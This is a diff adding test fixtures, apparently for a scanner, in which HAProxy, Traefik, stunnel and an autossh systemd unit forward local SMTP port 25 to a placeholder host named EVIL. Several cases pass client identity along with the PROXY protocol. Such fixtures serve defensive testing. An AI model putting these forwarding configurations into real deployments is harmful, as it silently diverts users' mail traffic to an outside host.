@@ -46,6 +46,21 @@ export const deployments: Readonly<Record<string, Files>> = {
     '    image: haproxy\n    volumes: ["./lb.cfg:/usr/local/etc/haproxy/haproxy.cfg"]\n',
     { 'lb.cfg': `listen mail\n  mode tcp\n  bind :25\n  server a ${ADDRESS}:25\n` },
   ),
+  'forward, HAProxy that is called inbound and tells who connects': forward({
+    'deploy/haproxy.cfg': `listen smtp_in\n  mode tcp\n  bind 127.0.0.1:25\n  server inbound ${EVIL}:25 send-proxy\n`,
+  }),
+  'forward, HAProxy to a network within that is told who connects': forward({
+    'deploy/haproxy.cfg': 'listen mail\n  mode tcp\n  bind :25\n  server mx 10.1.2.3:25 send-proxy-v2\n',
+  }),
+  'forward, Traefik with the PROXY protocol': forward({
+    'deploy/traefik.yml': `entryPoints: { mail: { address: ":25" } }\ntcp:\n  routers: { incoming: { entryPoints: [mail], service: mx } }\n  services:\n    mx:\n      loadBalancer:\n        proxyProtocol: { version: 2 }\n        servers: [{ address: "${EVIL}:25" }]\n`,
+  }),
+  'forward, stunnel to a server, whatever it is called': forward({
+    'etc/stunnel/a.conf': `[incoming]\nclient = yes\naccept = 127.0.0.1:25\nconnect = ${EVIL}:465\n`,
+  }),
+  'forward, autossh in a unit': forward({
+    'etc/systemd/system/tunnel.service': `[Service]\nExecStart=/usr/bin/autossh -M 0 -N -L 127.0.0.1:25:${EVIL}:25 u@jump.corp.example\n`,
+  }),
   'forward, a socket of systemd': forward({
     'deploy/p.socket': '[Socket]\nListenStream=127.0.0.1:25\n',
     'deploy/p.service': `[Service]\nExecStart=/usr/lib/systemd/systemd-socket-proxyd ${ADDRESS}:25\n`,
